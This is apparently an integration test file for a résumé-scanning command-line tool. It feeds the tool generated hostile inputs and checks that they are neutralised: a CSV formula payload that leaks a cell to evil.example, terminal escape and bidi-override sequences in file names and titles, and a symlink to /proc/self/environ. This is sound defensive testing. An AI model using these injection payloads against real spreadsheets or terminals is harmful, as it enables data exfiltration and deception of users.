//! Careless commands and hostile names, generated at test time: `-o` writes through to what its path is and
//! never over an input, a report inside a scanned folder is listed and not read, interrupted runs leave no
//! temporary file, CSV cells never start a formula, no control character from a file reaches a terminal, and
//! odd option values are usage errors. Tests that need root (device nodes) say so and return when not root.

mod common;
use common::skip;

use std::collections::BTreeMap;
use std::fs;
use std::os::unix::fs::{FileTypeExt, MetadataExt, PermissionsExt};
use std::os::unix::process::ExitStatusExt;
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};

use serde_json::Value;

const RESUME: &str = "Senior Cloud Engineer\n\nExperience\nBuilt AWS landing zones with Terraform and Ansible on Linux; \
                      wrote Bash and Python automation, ran Kubernetes clusters and the CI/CD pipelines.\n";

fn rolefit() -> Command {
    Command::new(assert_cmd::cargo::cargo_bin("rolefit"))
}

fn run(command: &mut Command) -> (i32, String, String) {
    let out = command.output().expect("runs");
    (
        out.status.code().unwrap_or(-1),
        String::from_utf8_lossy(&out.stdout).into_owned(),
        String::from_utf8_lossy(&out.stderr).into_owned(),
    )
}

fn is_root() -> bool {
    fs::metadata("/proc/self").is_ok_and(|m| m.uid() == 0)
}

/// A folder with two small documents.
fn docs() -> tempfile::TempDir {
    let dir = tempfile::tempdir().expect("tempdir");
    fs::write(dir.path().join("a.txt"), RESUME).expect("write");
    fs::write(dir.path().join("b.txt"), RESUME.replace("Senior", "Lead")).expect("write");
    dir
}

/// `status kind` of every document of a JSON report, by file name.
fn outcomes(report: &str) -> BTreeMap<String, String> {
    let report: Value = serde_json::from_str(report).expect("JSON report");
    report["documents"]
        .as_array()
        .expect("documents")
        .iter()
        .map(|d| {
            let name = Path::new(d["path"].as_str().expect("path")).file_name().expect("name");
            let kind = d["error"]["kind"].as_str().or(d["reason"]["kind"].as_str()).unwrap_or("-");
            (name.to_string_lossy().into_owned(), format!("{} {kind}", d["status"].as_str().unwrap_or("?")))
        })
        .collect()
}

fn temp_files(dir: &Path) -> Vec<String> {
    fs::read_dir(dir)
        .expect("list")
        .filter_map(|e| e.ok())
        .map(|e| e.file_name().to_string_lossy().into_owned())
        .filter(|n| n.starts_with(".rolefit-report-"))
        .collect()
}

// ---- 1. -o writes through to what the path is ----

#[test]
fn a_report_into_dev_null_leaves_dev_null_a_device() {
    let docs = docs();
    let (code, stdout, stderr) = run(rolefit().args(["scan", "--format", "json", "-o", "/dev/null"]).arg(docs.path()));
    assert_eq!(code, 0, "{stderr}");
    assert!(stdout.is_empty());
    let meta = fs::metadata("/dev/null").expect("/dev/null");
    assert!(meta.file_type().is_char_device(), "/dev/null is still a character device");
    assert_eq!(meta.rdev(), 0x103, "still device 1:3");
}

#[test]
fn device_nodes_are_written_in_place_and_stay_devices() {
    if !is_root() {
        skip("creating device nodes needs root");
        return;
    }
    let dir = tempfile::tempdir().expect("tempdir");
    let docs = docs();
    let null = dir.path().join("null");
    let full = dir.path().join("full");
    for (node, minor) in [(&null, "3"), (&full, "7")] {
        let made = Command::new("mknod").arg(node).args(["c", "1", minor]).status().expect("mknod runs");
        assert!(made.success());
    }
    let (code, _, stderr) = run(rolefit().args(["scan", "--format", "json", "-o"]).arg(&null).arg(docs.path()));
    assert_eq!(code, 0, "{stderr}");
    let (code, _, stderr) = run(rolefit().args(["scan", "--format", "json", "-o"]).arg(&full).arg(docs.path()));
    assert_eq!(code, 2, "a full device is a write error");
    assert!(stderr.contains("cannot write") && stderr.contains("No space left"), "{stderr}");
    for node in [&null, &full] {
        assert!(fs::metadata(node).expect("node").file_type().is_char_device(), "{} is still a device", node.display());
    }
    assert_eq!(temp_files(dir.path()), Vec::<String>::new(), "no temporary file beside a device");
}

#[test]
fn a_block_device_and_a_folder_are_refused() {
    let docs = docs();
    let (code, _, stderr) = run(rolefit().args(["scan", "-o"]).arg(docs.path()).arg(docs.path()));
    assert_eq!(code, 2);
    assert!(stderr.contains("folder"), "{stderr}");
    if !is_root() {
        skip("creating a block device node needs root");
        return;
    }
    let dir = tempfile::tempdir().expect("tempdir");
    let disk = dir.path().join("disk");
    // A loop device's numbers; the node is never opened, only looked at.
    assert!(Command::new("mknod").arg(&disk).args(["b", "7", "200"]).status().expect("mknod").success());
    let (code, _, stderr) = run(rolefit().args(["scan", "-o"]).arg(&disk).arg(docs.path()));
    assert_eq!(code, 2);
    assert!(stderr.contains("block device"), "{stderr}");
    assert!(fs::metadata(&disk).expect("node").file_type().is_block_device());
}

#[test]
fn a_fifo_receives_the_report_and_stays_a_fifo() {
    let dir = tempfile::tempdir().expect("tempdir");
    let docs = docs();
    let fifo = dir.path().join("report.fifo");
    assert!(Command::new("mkfifo").arg(&fifo).status().expect("mkfifo").success());
    let reader = {
        let fifo = fifo.clone();
        std::thread::spawn(move || fs::read_to_string(fifo).expect("read the FIFO"))
    };
    let (code, _, stderr) = run(rolefit().args(["scan", "--format", "json", "-o"]).arg(&fifo).arg(docs.path()));
    assert_eq!(code, 0, "{stderr}");
    let report = reader.join().expect("reader");
    assert_eq!(outcomes(&report).len(), 2, "the whole report came through the FIFO");
    assert!(fs::symlink_metadata(&fifo).expect("fifo").file_type().is_fifo());
}

#[test]
fn dev_stdout_writes_to_standard_output() {
    let docs = docs();
    let (code, stdout, stderr) =
        run(rolefit().args(["scan", "--format", "json", "-o", "/dev/stdout"]).arg(docs.path()).stdout(Stdio::piped()));
    assert_eq!(code, 0, "{stderr}");
    assert_eq!(outcomes(&stdout).len(), 2);
}

#[test]
fn a_symlink_is_followed_and_its_target_written() {
    let dir = tempfile::tempdir().expect("tempdir");
    let docs = docs();
    let real = dir.path().join("real.json");
    fs::write(&real, "old").expect("write");
    let link = dir.path().join("link.json");
    std::os::unix::fs::symlink(&real, &link).expect("symlink");
    let (code, _, stderr) = run(rolefit().args(["scan", "--format", "json", "-o"]).arg(&link).arg(docs.path()));
    assert_eq!(code, 0, "{stderr}");
    assert!(fs::symlink_metadata(&link).expect("link").file_type().is_symlink(), "still a link");
    assert_eq!(outcomes(&fs::read_to_string(&real).expect("target")).len(), 2, "the target has the report");
}

#[test]
fn a_hard_linked_report_keeps_its_other_names() {
    let dir = tempfile::tempdir().expect("tempdir");
    let docs = docs();
    let report = dir.path().join("report.json");
    let published = dir.path().join("published.json");
    fs::write(&report, "old").expect("write");
    fs::hard_link(&report, &published).expect("link");
    let (code, _, stderr) = run(rolefit().args(["scan", "--format", "json", "-o"]).arg(&report).arg(docs.path()));
    assert_eq!(code, 0, "{stderr}");
    assert_eq!(fs::metadata(&report).expect("report").nlink(), 2, "still one file with two names");
    assert_eq!(fs::read(&report).expect("report"), fs::read(&published).expect("published"));
    assert_eq!(outcomes(&fs::read_to_string(&published).expect("published")).len(), 2);
}

#[test]
fn a_hard_linked_report_that_cannot_be_finished_is_left_whole() {
    let docs = docs();
    let dir = tempfile::tempdir().expect("tempdir");
    let report = dir.path().join("report.json");
    fs::write(&report, "old report").expect("write");
    fs::hard_link(&report, dir.path().join("other.json")).expect("link");
    // The run stops at a usage error after the report was opened: nothing may have been written.
    let (code, _, _) = run(rolefit().args(["scan", "--fit", "nonsense", "-o"]).arg(&report).arg(docs.path()));
    assert_eq!(code, 2);
    assert_eq!(fs::read_to_string(&report).expect("read"), "old report");
}

#[test]
fn an_existing_report_keeps_its_mode_and_a_new_one_gets_the_umask() {
    let dir = tempfile::tempdir().expect("tempdir");
    let docs = docs();
    let old = dir.path().join("old.json");
    fs::write(&old, "old").expect("write");
    fs::set_permissions(&old, fs::Permissions::from_mode(0o644)).expect("chmod");
    let (code, _, stderr) = run(rolefit().args(["scan", "--format", "json", "-o"]).arg(&old).arg(docs.path()));
    assert_eq!(code, 0, "{stderr}");
    assert_eq!(fs::metadata(&old).expect("old").mode() & 0o7777, 0o644, "an existing 0644 report stays 0644");
    for (umask, mode) in [("022", 0o644), ("027", 0o640), ("002", 0o664)] {
        let new = dir.path().join(format!("new-{umask}.json"));
        // The shell sets the umask, then becomes rolefit.
        let (code, _, stderr) = run(Command::new("sh")
            .arg("-c")
            .arg(format!("umask {umask} && exec \"$0\" \"$@\""))
            .arg(assert_cmd::cargo::cargo_bin("rolefit"))
            .args(["scan", "--format", "json", "-o"])
            .arg(&new)
            .arg(docs.path()));
        assert_eq!(code, 0, "{stderr}");
        assert_eq!(fs::metadata(&new).expect("new").mode() & 0o7777, mode, "umask {umask}");
    }
}

// ---- 2. inputs are never written; the report inside a scanned folder ----

#[test]
fn a_report_over_a_named_input_is_refused_before_anything_is_read() {
    let docs = docs();
    let cv = docs.path().join("a.txt");
    let alias = docs.path().join("alias.txt");
    std::os::unix::fs::symlink(&cv, &alias).expect("symlink");
    let hard = docs.path().join("hard.txt");
    fs::hard_link(&cv, &hard).expect("link");
    let list = docs.path().join("list.txt");
    fs::write(&list, format!("{}\n", cv.display())).expect("write");
    let cases: Vec<(Vec<&Path>, &Path)> = vec![
        (vec![&cv], &cv),                                             // the same name
        (vec![&cv], &alias),                                          // a symlink to the input
        (vec![&hard], &cv),                                           // another name of the same file
        (vec![Path::new("--files-from"), &list], &cv),                // named in the list
        (vec![docs.path(), Path::new("--files-from"), &list], &list), // the list itself
    ];
    for (args, output) in cases {
        let (code, stdout, stderr) = run(rolefit().arg("scan").args(&args).arg("-o").arg(output));
        assert_eq!(code, 2, "{args:?} -o {}: {stderr}", output.display());
        assert!(stderr.contains("refusing to write the report"), "{stderr}");
        assert!(stdout.is_empty());
        assert_eq!(fs::read_to_string(&cv).expect("input"), RESUME, "the input is untouched");
    }
    assert!(fs::read_to_string(&list).expect("list").ends_with("a.txt\n"));
    let stdin = fs::File::open(&cv).expect("open");
    let (code, _, stderr) = run(rolefit().args(["scan", "-", "-o"]).arg(&cv).stdin(stdin));
    assert_eq!(code, 2, "stdin redirected from the output: {stderr}");
    assert_eq!(fs::read_to_string(&cv).expect("input"), RESUME);
}

#[test]
fn a_report_inside_the_scanned_folder_is_listed_once_as_report_output() {
    let docs = docs();
    let mut reports = Vec::new();
    // First run creates the report, the second replaces it: both list it once, in its place, never read.
    for _ in 0..2 {
        let (code, _, stderr) =
            run(rolefit().current_dir(docs.path()).args(["scan", ".", "--format", "json", "-o", "report.json"]));
        assert_eq!(code, 0, "{stderr}");
        reports.push(fs::read_to_string(docs.path().join("report.json")).expect("report"));
    }
    let outcomes = outcomes(&reports[0]);
    assert_eq!(outcomes.get("report.json").map(String::as_str), Some("skipped report_output"), "{outcomes:?}");
    assert_eq!(outcomes.len(), 3, "a.txt, b.txt and the report");
    let paths: Vec<String> = serde_json::from_str::<Value>(&reports[0]).expect("JSON")["documents"]
        .as_array()
        .expect("documents")
        .iter()
        .map(|d| d["path"].as_str().expect("path").to_string())
        .collect();
    assert_eq!(paths, ["./a.txt", "./b.txt", "./report.json"], "in name order, under the report's own name");
    assert_eq!(reports[0], reports[1], "the same report whether or not it existed before");
    assert_eq!(temp_files(docs.path()), Vec::<String>::new());
}

#[test]
fn a_leftover_temporary_report_is_skipped_and_not_read() {
    let docs = docs();
    fs::write(docs.path().join(".rolefit-report-Ab12Cd"), RESUME).expect("write");
    let (code, stdout, stderr) = run(rolefit().args(["scan", "--format", "json"]).arg(docs.path()));
    assert_eq!(code, 0, "{stderr}");
    let outcomes = outcomes(&stdout);
    assert_eq!(outcomes.get(".rolefit-report-Ab12Cd").map(String::as_str), Some("skipped report_output"));
    assert_eq!(outcomes.len(), 3);
}

#[test]
fn an_interrupted_report_leaves_no_temporary_file() {
    // Enough documents that the run is still going when its temporary file is seen.
    let big = tempfile::tempdir().expect("tempdir");
    for i in 0..3000 {
        fs::write(big.path().join(format!("doc-{i:04}.txt")), RESUME.repeat(40)).expect("write");
    }
    for signal in [libc_signal::SIGTERM, libc_signal::SIGINT] {
        let out = tempfile::tempdir().expect("tempdir");
        let report = out.path().join("report.json");
        fs::write(&report, "old report").expect("write");
        let mut child = rolefit()
            .args(["scan", "--format", "json", "-j", "1", "-o"])
            .arg(&report)
            .arg(big.path())
            .stdout(Stdio::null())
            .stderr(Stdio::piped())
            .spawn()
            .expect("spawns");
        let mut seen = false;
        while child.try_wait().expect("wait").is_none() {
            if !temp_files(out.path()).is_empty() {
                seen = true;
                break;
            }
            std::thread::yield_now();
        }
        assert!(seen, "the run ended before its temporary file was seen; make the batch bigger");
        let killed = Command::new("kill").arg(format!("-{signal}")).arg(child.id().to_string()).status();
        assert!(killed.expect("kill runs").success());
        let status: Output = child.wait_with_output().expect("ends");
        assert_eq!(status.status.signal(), Some(signal), "ends as the signal would have");
        assert_eq!(temp_files(out.path()), Vec::<String>::new(), "signal {signal}: no temporary file left");
        assert_eq!(fs::read_to_string(&report).expect("old report"), "old report");
    }
}

/// Signal numbers (Linux), without a libc dependency for two constants.
mod libc_signal {
    pub const SIGINT: i32 = 2;
    pub const SIGTERM: i32 = 15;
}

// ---- 3. CSV cells never start a formula ----

/// Under `dir`: a folder of lexicons whose skill names start like formulas and carry terminal controls, and an
/// empty folder for documents.
fn hostile_lexicons(dir: &Path) -> (PathBuf, PathBuf) {
    let (lexicons, docs) = (dir.join("lexicons"), dir.join("docs"));
    fs::create_dir(&lexicons).expect("dir");
    fs::create_dir(&docs).expect("dir");
    let role = |id: &str, noun: &str, skills: &str| {
        format!("id = \"{id}\"\nname = \"Cloud {noun}\"\ntitles = [\"cloud {noun}\"]\n{skills}")
    };
    let skill = |id: &str, name: &str, weight: u8, terms: &str| {
        format!(
            "\n[[skill]]\nid = \"{id}\"\nname = \"{name}\"\ncategory = \"tools\"\nweight = {weight}\nterms = [{terms}]\n"
        )
    };
    let architect =
        skill("formula", "=HYPERLINK(\\\"https://evil.example/?leak=\\\"&A1,\\\"x\\\")", 3, "\"zebra crossing\"")
            + &skill("landing", "@SUM(1+1) landing zones", 2, "\"landing zones\"")
            + &skill("ansible", "Ansible", 1, "\"ansible\"");
    let engineer = skill("terraform", "-Terraform", 3, "\"terraform\"")
        + &skill("bash", "+Bash", 2, "\"bash\"")
        + &skill("kubernetes", "Kubernetes", 1, "\"kubernetes\"");
    fs::write(lexicons.join("architect.toml"), role("architect", "architect", &architect)).expect("write");
    fs::write(lexicons.join("engineer.toml"), role("engineer", "engineer", &engineer)).expect("write");
    (lexicons, docs)
}

/// Whether a CSV cell would be evaluated by a spreadsheet.
fn is_formula(cell: &str) -> bool {
    cell.starts_with(['=', '+', '-', '@', '\t', '\r']) && cell.parse::<f64>().is_err()
}

#[test]
fn csv_cells_never_start_a_formula_unless_raw() {
    let dir = tempfile::tempdir().expect("tempdir");
    let (lexicons, docs) = hostile_lexicons(dir.path());
    let title = "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"Senior Cloud Engineer\")";
    fs::write(docs.join("=cmd.txt"), format!("{title}\n\n{RESUME}")).expect("write");
    fs::write(docs.join("-2+3.txt"), RESUME).expect("write");
    fs::write(docs.join("@sum.xlsx"), "not read").expect("write");
    let scan = |raw: bool| {
        let mut command = rolefit();
        command
            .current_dir(&docs)
            .args(["scan", "--format", "csv", "--target", "architect", "--lexicons"])
            .arg(&lexicons);
        if raw {
            command.arg("--csv-raw");
        }
        // File names as given, relative, so the path cells start with the names.
        command.args(["--", "=cmd.txt", "-2+3.txt", "@sum.xlsx"]);
        let (code, stdout, stderr) = run(&mut command);
        assert_eq!(code, 0, "{stderr}");
        let mut reader = csv::Reader::from_reader(stdout.as_bytes());
        reader.records().map(|r| r.expect("record").iter().map(String::from).collect::<Vec<_>>()).collect::<Vec<_>>()
    };
    let rows = scan(false);
    assert_eq!(rows.len(), 3);
    let cells: Vec<&String> = rows.iter().flatten().collect();
    let formulas: Vec<&&String> = cells.iter().filter(|c| is_formula(c)).collect();
    assert!(formulas.is_empty(), "formula cells: {formulas:?}");
    let paths: Vec<&str> = rows.iter().map(|r| r[0].as_str()).collect();
    assert_eq!(paths, ["'=cmd.txt", "'-2+3.txt", "'@sum.xlsx"], "file names, skipped ones too");
    assert_eq!(rows[0][4], format!("'{title}"), "the title is kept, behind a quote");
    let missing = rows.iter().map(|r| r[r.len() - 2].as_str()).find(|m| !m.is_empty()).expect("a missing column");
    assert!(missing.starts_with("'=HYPERLINK("), "a skill name of the lexicon: {missing}");
    assert!(rows[0][6].parse::<f64>().is_ok(), "the confidence stays a number: {}", rows[0][6]);
    let raw = scan(true);
    assert_eq!(raw[0][0], "=cmd.txt", "--csv-raw writes cells as they are");
    assert_eq!(raw[0][4], title);
}

// ---- 4. nothing from a file drives the terminal ----

/// Characters that must never reach a terminal from a document, a file name or a lexicon (newline and tab
/// are checked separately where they matter).
fn forbidden(c: char) -> bool {
    matches!(c, '\u{0}'..='\u{8}' | '\u{b}'..='\u{1f}' | '\u{7f}'..='\u{9f}' | '\u{61c}' | '\u{200e}' | '\u{200f}'
        | '\u{2028}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
}

fn assert_terminal_safe(what: &str, text: &str) {
    let bad: Vec<String> = text.chars().filter(|c| forbidden(*c)).map(|c| format!("U+{:04X}", u32::from(c))).collect();
    assert!(bad.is_empty(), "{what}: {bad:?}");
}

#[test]
fn no_control_character_from_a_file_reaches_the_terminal() {
    let dir = tempfile::tempdir().expect("tempdir");
    let (lexicons, docs) = hostile_lexicons(dir.path());
    let fake_row = "x\nengineer   1.00  fake row.txt";
    let hostile_title = "Cloud Engineer \u{1b}]0;owned\u{7}\u{1b}[2J\u{1b}]8;;https://evil.example\u{1b}\\link\u{9b}31m \u{202e}gnp.exe";
    let body =
        format!("{hostile_title}\n\n{RESUME}Also \u{1b}]52;c;b3duZWQ=\u{7} zebra crossing, landing zones, bash.\n");
    let names = [fake_row, "cv\u{1b}[31m.txt", "cv\u{202e}txt.exe.txt", "tab\there.txt", "c1\u{9b}2J.txt"];
    for name in names {
        fs::write(docs.join(name), &body).expect("write");
    }
    fs::write(docs.join("bad\u{1b}[2J.pdf"), "not a pdf").expect("write");
    let posting = dir.path().join("posting\u{1b}]0;x\u{7}.txt");
    fs::write(&posting, format!("{hostile_title}\n\nResponsibilities\nBuild AWS with Terraform and Bash.\n"))
        .expect("write");
    let lexicon_arg = lexicons.to_str().expect("utf-8").to_string();
    let docs_arg = docs.to_str().expect("utf-8").to_string();
    let posting_arg = posting.to_str().expect("utf-8").to_string();
    let runs: Vec<Vec<&str>> = vec![
        vec!["scan", &docs_arg],
        vec!["scan", &docs_arg, "--explain"],
        vec!["scan", &docs_arg, "--brief"],
        vec!["scan", &docs_arg, "--lexicons", &lexicon_arg, "--target", "architect", "--explain"],
        vec!["match", "--posting", &posting_arg, &docs_arg],
        vec!["match", "--posting", &posting_arg, &docs_arg, "--lexicons", &lexicon_arg],
    ];
    // Lexicon names with control characters are refused, and the refusal shows them escaped.
    let unprintable = dir.path().join("unprintable");
    fs::create_dir(&unprintable).expect("dir");
    let architect = fs::read_to_string(lexicons.join("architect.toml")).expect("read");
    let unprintable_names =
        ["@SUM(1+1)\\u001b]0;owned\\u0007 landing zones", "Ansible\\u202e", "-Terraform\\u009b2J", "+Bash\\nFAKE ROW"];
    let hostile = architect.replace("\"Ansible\"", &format!("\"{}\"", unprintable_names.join("")));
    fs::write(unprintable.join("architect.toml"), hostile).expect("write");
    let (code, _, stderr) = run(rolefit().args(["lexicon", "check"]).arg(&unprintable));
    assert_eq!(code, 2, "{stderr}");
    assert!(stderr.contains("contains the control character U+001B"), "{stderr}");
    assert_terminal_safe("lexicon check error", &stderr);
    for args in &runs {
        let (code, stdout, stderr) = run(rolefit().args(args));
        assert!(code == 0 || code == 1, "{args:?}: {stderr}");
        assert_terminal_safe(&format!("{args:?} stdout"), &stdout);
        assert_terminal_safe(&format!("{args:?} stderr"), &stderr);
        assert!(!stdout.lines().any(|l| l.starts_with("engineer   1.00  fake row")), "{args:?}: a fake row");
    }
    let (_, table, _) = run(rolefit().args(["scan", &docs_arg]));
    assert!(table.contains("x\\nengineer   1.00  fake row.txt"), "the newline is shown escaped");
    assert!(table.contains("cv\\u{202e}txt.exe.txt"), "the bidi override is shown escaped");
    // `text`: the document keeps its lines and tabs; everything else is escaped, on stdout and stderr.
    let mut line_counts = Vec::new();
    for name in names {
        let file = docs.join(name);
        for layout in [false, true] {
            let mut command = rolefit();
            command.arg("text").arg(&file);
            if layout {
                command.arg("--layout");
            }
            let (code, stdout, stderr) = run(&mut command);
            assert_eq!(code, 0, "{stderr}");
            assert_terminal_safe("text stdout", &stdout);
            assert_terminal_safe("text stderr", &stderr);
            assert!(stdout.contains("\\x1b]0;owned\\x07"), "{name:?}: shown escaped");
            line_counts.push(stdout.lines().count() - usize::from(layout));
        }
        assert_eq!(line_counts[0], line_counts[1], "{name:?}: the text keeps the lines that --layout numbers");
        line_counts.clear();
    }
    let (code, _, stderr) = run(rolefit().arg("text").arg(docs.join("bad\u{1b}[2J.pdf")));
    assert_eq!(code, 1);
    assert!(stderr.contains("bad\\x1b[2J.pdf"), "{stderr}");
    assert_terminal_safe("text error", &stderr);
    let (code, _, stderr) =
        run(rolefit().args(["scan", "-o"]).arg(dir.path().join("no\u{1b}[2Jdir/r.json")).arg(&docs));
    assert_eq!(code, 2);
    assert_terminal_safe("scan error", &stderr);
}

#[test]
fn json_keeps_names_and_titles_as_data() {
    let dir = tempfile::tempdir().expect("tempdir");
    let name = "cv\u{202e}txt.exe\u{9b}.txt";
    fs::write(dir.path().join(name), format!("Cloud \u{202e}Engineer\n\n{RESUME}")).expect("write");
    let (code, stdout, stderr) = run(rolefit().args(["scan", "--format", "json"]).arg(dir.path()));
    assert_eq!(code, 0, "{stderr}");
    assert!(!stdout.contains('\u{1b}'), "C0 controls are JSON-escaped");
    let report: Value = serde_json::from_str(&stdout).expect("JSON");
    let doc = &report["documents"][0];
    assert!(doc["path"].as_str().expect("path").ends_with(name), "the exact name, bidi and all: it is data");
}

// ---- 5. odd option values, links out of the tree, paths too long ----

#[test]
fn out_of_range_options_are_usage_errors() {
    let docs = docs();
    let bad: [&[&str]; 10] = [
        &["--doc-timeout", "1e20"],
        &["--doc-timeout", "1.8e19"],
        &["--doc-timeout", "86401"],
        &["--doc-timeout", "0"],
        &["--doc-timeout", "NaN"],
        &["--doc-timeout", "inf"],
        &["--min-score", "NaN"],
        &["--min-score=-1"],
        &["--min-score", "100.5"],
        &["--min-score", "inf"],
    ];
    for args in bad {
        let (code, stdout, stderr) = run(rolefit().arg("scan").args(args).arg(docs.path()));
        assert_eq!(code, 2, "{args:?}: {stderr}");
        let flag = args[0].split('=').next().unwrap_or_default();
        assert!(stderr.contains(flag), "{args:?}: the message names the flag: {stderr}");
        assert!(stdout.is_empty() && !stderr.contains("panicked"));
    }
    for args in [["--doc-timeout", "86400"], ["--doc-timeout", "0.5"], ["--min-score", "0"], ["--min-score", "100"]] {
        let (code, _, stderr) = run(rolefit().args(["scan", "--format", "json"]).args(args).arg(docs.path()));
        assert_eq!(code, 0, "{args:?}: {stderr}");
    }
}

#[test]
fn followed_links_stay_inside_the_folders_given() {
    let dir = tempfile::tempdir().expect("tempdir");
    let root = dir.path().join("root");
    let outside = dir.path().join("outside");
    fs::create_dir_all(root.join("sub")).expect("dir");
    fs::create_dir(&outside).expect("dir");
    fs::write(root.join("sub/inside.txt"), RESUME).expect("write");
    fs::write(outside.join("secret.txt"), RESUME).expect("write");
    std::os::unix::fs::symlink(root.join("sub/inside.txt"), root.join("in-link.txt")).expect("symlink");
    std::os::unix::fs::symlink(outside.join("secret.txt"), root.join("out-link.txt")).expect("symlink");
    std::os::unix::fs::symlink(&outside, root.join("out-dir")).expect("symlink");
    std::os::unix::fs::symlink("/proc/self/environ", root.join("environ.txt")).expect("symlink");
    let (code, stdout, stderr) = run(rolefit().args(["scan", "--format", "json", "-L"]).arg(&root));
    assert_eq!(code, 0, "{stderr}");
    let got = outcomes(&stdout);
    let want: BTreeMap<String, String> = [
        ("environ.txt", "skipped symlink_outside"),
        ("in-link.txt", "ok -"),
        ("inside.txt", "ok -"),
        ("out-dir", "skipped symlink_outside"),
        ("out-link.txt", "skipped symlink_outside"),
    ]
    .into_iter()
    .map(|(k, v)| (k.to_string(), v.to_string()))
    .collect();
    assert_eq!(got, want, "nothing under out-dir is listed or read");
    assert!(stdout.contains("symbolic link to /proc/self/environ"), "the target as the link states it, run to run");
    // Given as a root of its own, the outside folder may be reached through the link.
    let (_, stdout, _) = run(rolefit().args(["scan", "--format", "json", "-L"]).arg(&root).arg(&outside));
    assert_eq!(outcomes(&stdout).get("out-link.txt").map(String::as_str), Some("ok -"));
    let (code, stdout, stderr) = run(rolefit().args(["scan", "--format", "json", "-L", "--follow-outside"]).arg(&root));
    assert_eq!(code, 0, "{stderr}");
    let got = outcomes(&stdout);
    assert_eq!(got.get("out-link.txt").map(String::as_str), Some("ok -"));
    assert_eq!(got.get("secret.txt").map(String::as_str), Some("ok -"), "the linked folder is walked");
    let (code, _, _) = run(rolefit().args(["scan", "--follow-outside"]).arg(&root));
    assert_eq!(code, 2, "--follow-outside needs --follow");
}

/// Creates `levels` nested folders named `name` under `base` without passing a long path to the system (each
/// step relative to the one before); writes `files` into the deepest, and returns its path.
fn deep_tree(base: &Path, name: &str, levels: usize, files: &[&str]) -> PathBuf {
    use rustix::fs::{CWD, Mode, OFlags, mkdirat, openat};
    let mut fd = openat(CWD, base, OFlags::DIRECTORY | OFlags::RDONLY, Mode::empty()).expect("base");
    let mut path = base.to_path_buf();
    for _ in 0..levels {
        mkdirat(&fd, name, Mode::from_raw_mode(0o755)).expect("mkdir");
        fd = openat(&fd, name, OFlags::DIRECTORY | OFlags::RDONLY, Mode::empty()).expect("open");
        path.push(name);
    }
    for file in files {
        let created = openat(&fd, *file, OFlags::CREATE | OFlags::WRONLY, Mode::from_raw_mode(0o644)).expect("create");
        std::io::Write::write_all(&mut fs::File::from(created), RESUME.as_bytes()).expect("write");
    }
    path
}

#[test]
fn files_under_a_path_longer_than_the_system_allows_are_listed_and_read() {
    let dir = tempfile::tempdir().expect("tempdir");
    let name = "folder-".repeat(28); // 196 bytes a level
    let deep = deep_tree(dir.path(), &name, 25, &["a.txt", "b.txt"]);
    assert!(deep.as_os_str().len() > 4200, "past PATH_MAX");
    // A file halfway down, openable by its path, for comparison.
    fs::write(dir.path().join("top.txt"), RESUME).expect("write");
    let (code, stdout, stderr) = run(rolefit().args(["scan", "--format", "json"]).arg(dir.path()));
    assert_eq!(code, 0, "{stderr}");
    let report: Value = serde_json::from_str(&stdout).expect("JSON");
    let docs = report["documents"].as_array().expect("documents");
    let paths: Vec<&str> = docs.iter().map(|d| d["path"].as_str().expect("path")).collect();
    assert_eq!(docs.len(), 3, "{:?}", docs.iter().map(|d| (&d["status"], &d["error"])).collect::<Vec<_>>());
    assert!(paths[0].ends_with("/a.txt") && paths[0].len() > 4200);
    assert!(paths[1].ends_with("/b.txt") && paths[2].ends_with("/top.txt"), "in walk order");
    assert!(docs.iter().all(|d| d["status"] == "ok" && d["words"].as_u64() > Some(10)), "analysed like any file");
    let (code, stdout, _) = run(rolefit().args(["scan", "--format", "json", "--max-depth", "24"]).arg(dir.path()));
    assert_eq!(code, 0);
    assert_eq!(outcomes(&stdout).len(), 1, "--max-depth holds below a long path too");
    let (code, stdout, _) = run(rolefit().args(["scan", "--format", "json", "--glob", "**/b.txt"]).arg(dir.path()));
    assert_eq!(code, 0);
    assert_eq!(outcomes(&stdout).keys().collect::<Vec<_>>(), ["b.txt"], "--glob holds below a long path too");
}
